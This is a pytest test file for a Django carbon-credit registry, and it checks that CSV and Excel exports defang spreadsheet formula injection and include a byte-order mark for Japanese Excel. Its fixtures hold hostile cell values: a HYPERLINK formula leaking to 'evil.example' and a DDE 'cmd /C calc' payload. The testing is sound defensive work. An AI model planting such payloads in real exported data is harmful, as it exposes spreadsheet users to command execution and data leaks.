"""Every CSV the registry writes goes through ``registry.csvfiles``: no cell a spreadsheet would run
as a formula, and UTF-8 with a byte-order mark for Excel in Japanese (issue 16 finding 1, issue 18 §5)."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

import registry
from registry import csvfiles
from registry.accounts.models import AccountType
from registry.accounts.services import open_account
from registry.article6.aef import AnnualInformation, write_csv, write_workbook
from registry.installation.seed import system_user
from registry.parties.models import CreditingProgramme
from registry.parties.services import register_entity
from registry.units.models import CorsiaEligibility
from tests.factories import sign_in

HYPERLINK = '=HYPERLINK("http://evil.example/?leak","Click me")'
COMMAND = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE = [HYPERLINK, COMMAND, "+1+1", "-2+3", "\t=1", "\r=1"]
SOURCE = Path(registry.__file__).parent


def cells(text: str) -> list[list[str]]:
    assert text.startswith(csvfiles.BOM), "a CSV without the byte-order mark opens as mojibake in Japanese Excel"
    return list(csv.reader(io.StringIO(text.removeprefix(csvfiles.BOM))))


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(csvfiles.FORMULA_STARTS), f"a spreadsheet would run {cell!r}"


def downloaded(response) -> str:
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return body.decode("utf-8")


@pytest.fixture
def hostile_world(world):
    """Entities named (through the services, as Form 1 and Form 2 approvals do) like formulas."""
    for number, name in enumerate(HOSTILE):
        entity = register_entity(system_user(), world.mongolia, name=name, country="MN", name_ja=name, head_office=name)
        open_account(system_user(), world.mongolia, account_type=AccountType.ENTITY_HOLDING, name=f"{name} {number}", entity=entity)
    CorsiaEligibility.objects.create(
        programme=CreditingProgramme.objects.get(code="JCM"),
        first_vintage=2021,
        last_vintage=2026,
        compliance_period=COMMAND,
        note=HYPERLINK,
    )
    world.issue(100)
    return world


def test_the_public_entity_list_writes_formulas_as_text(hostile_world, client):
    rows = cells(downloaded(client.get("/public/MNG01/entities/?format=csv")))
    assert_no_formula(rows)
    names = [row[0] for row in rows[1:]]
    assert "'" + HYPERLINK in names and "'" + COMMAND in names  # shown as the text the entity gave, not dropped
    assert rows[0] == ["name", "name_ja", "country", "head_office"]


@pytest.mark.parametrize(
    "url",
    [
        "/public/MNG01/entities/?format=csv",
        "/public/MNG01/amounts/?format=csv",
        "/public/MNG01/transactions/?format=csv",
        "/public/search/?format=csv",
        "/public/corsia/?format=csv",
    ],
)
def test_every_public_csv_has_the_bom_and_no_formula(hostile_world, client, url):
    assert_no_formula(cells(downloaded(client.get(url))))


def test_the_corsia_list_writes_administrators_text_as_text(hostile_world, client):
    rows = cells(downloaded(client.get("/public/corsia/?format=csv")))
    assert rows[1][4:6] == ["'" + COMMAND, "'" + HYPERLINK]


def test_the_web_aef_csv_has_the_bom_and_no_formula(hostile_world, client):
    sign_in(client, hostile_world.admin_mn)
    assert_no_formula(cells(downloaded(client.get("/registries/MNG01/aef/2026.csv"))))


def hostile_report(world) -> AnnualInformation:
    report = AnnualInformation(world.mongolia, 2026)
    report.actions = [
        {"Action type": value, "Purpose for which the ITMO has been used towards or cancelled for OIMP": value} for value in HOSTILE
    ]
    report.entities = [{"Name": value} for value in HOSTILE]
    return report


def test_the_aef_csv_files_write_formulas_as_text(world, tmp_path):
    for path in write_csv(hostile_report(world), tmp_path):
        assert_no_formula(cells(path.read_text(encoding="utf-8")))


def test_the_aef_workbook_keeps_formulas_as_text(world, tmp_path):
    write_workbook(hostile_report(world), tmp_path / "aef.xlsx")
    book = load_workbook(tmp_path / "aef.xlsx")
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            assert all(cell.data_type != "f" for cell in row), f"{sheet.title} holds a formula"
    assert book["Table 5 Authorized entities"]["B2"].value == HYPERLINK  # text, exactly as given


def test_export_holdings_writes_a_bom_and_no_formula(hostile_world, tmp_path, capsys):
    call_command("export_holdings", "--registry", "MNG01", "--output", str(tmp_path / "holdings.csv"))
    rows = cells((tmp_path / "holdings.csv").read_text(encoding="utf-8"))
    assert_no_formula(rows)
    assert len(rows) == 2  # the header and the one issued block
    capsys.readouterr()
    call_command("export_holdings", "--registry", "MNG01")
    assert cells(csvfiles.BOM + capsys.readouterr().out) == rows  # standard output: the same rows, without the BOM


def test_safe_cell_leaves_numbers_and_plain_text_alone():
    assert [csvfiles.safe_cell(v) for v in (-5, 0, 12.5, None, "CA0001-MNG01-MNG-1-130-2023", "a=b")] == [
        -5,
        0,
        12.5,
        "",
        "CA0001-MNG01-MNG-1-130-2023",
        "a=b",
    ]


def test_no_module_but_the_csv_writer_writes_csv():
    """A new CSV path must use ``registry.csvfiles``: importing :mod:`csv` anywhere else fails here."""
    offenders = []
    for path in SOURCE.rglob("*.py"):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            names = (
                [a.name for a in node.names]
                if isinstance(node, ast.Import)
                else [node.module or ""]
                if isinstance(node, ast.ImportFrom)
                else []
            )
            if any(name == "csv" or name.startswith("csv.") for name in names):
                offenders.append(str(path.relative_to(SOURCE)))
        if "text/csv" in path.read_text(encoding="utf-8"):
            offenders.append(f"{path.relative_to(SOURCE)} (text/csv)")
    assert sorted(set(offenders)) == ["csvfiles.py", "csvfiles.py (text/csv)"]
